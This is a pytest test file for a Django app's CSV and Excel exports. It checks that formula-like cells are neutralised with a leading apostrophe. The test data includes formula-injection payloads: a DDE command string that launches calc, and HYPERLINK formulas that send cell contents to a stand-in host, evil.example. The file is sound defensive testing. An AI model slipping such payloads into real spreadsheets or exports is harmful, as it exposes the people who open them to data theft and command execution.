"""Exports carry no formulas: a text cell starting with =, +, -, @, tab or CR is written as text
with a leading apostrophe, in CSV and in Excel alike."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from supervision.exports import csv_stream, xlsx_file
from tests.factories import AccountFactory, CustomerFactory, VisitFactory

pytestmark = [pytest.mark.django_db]

DANGEROUS = [
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(chunks) -> list[list[str]]:
    body = "".join(chunks)
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def _xlsx_cells(handle):
    workbook = load_workbook(handle)
    return [[cell for cell in row] for row in workbook.active.iter_rows()]


@pytest.mark.parametrize("value", DANGEROUS)
def test_it_neutralises_a_formula_cell_in_csv(value):
    rows = _csv_rows(csv_stream(["findings", "n"], [[value, 5]]))
    assert rows[1] == ["'" + value, "5"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_it_writes_a_formula_cell_as_text_in_excel(value):
    cells = _xlsx_cells(xlsx_file(["findings", "n"], [[value, -5]], title="t"))
    text, number = cells[1]
    # XML stores a bare CR as a line feed; what matters is text with the apostrophe first.
    assert text.data_type == "s" and text.value == "'" + value.replace("\r", "\n")
    assert number.data_type == "n" and number.value == -5  # numbers stay numbers


def test_it_leaves_ordinary_text_alone():
    rows = _csv_rows(csv_stream(["h"], [["张伟"], ["a=b"]]))
    assert rows[1:] == [["张伟"], ["a=b"]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_neutralises_a_customer_named_like_a_formula_in_the_unmasked_export(
    client, supervisor, branch, agent, fmt
):
    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    VisitFactory(
        account=AccountFactory(customer=CustomerFactory(branch=branch, name=name)),
        status="assigned",
        assigned_to=agent,
    )
    client.force_login(supervisor)
    response = client.get(reverse("supervision:export", args=["visits", fmt]), {"unmasked": "1"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    if fmt == "csv":
        value = _csv_rows([body.decode()])[1][5]
        assert value == "'" + name
    else:
        cell = _xlsx_cells(io.BytesIO(body))[1][5]
        assert cell.data_type == "s" and cell.value == "'" + name
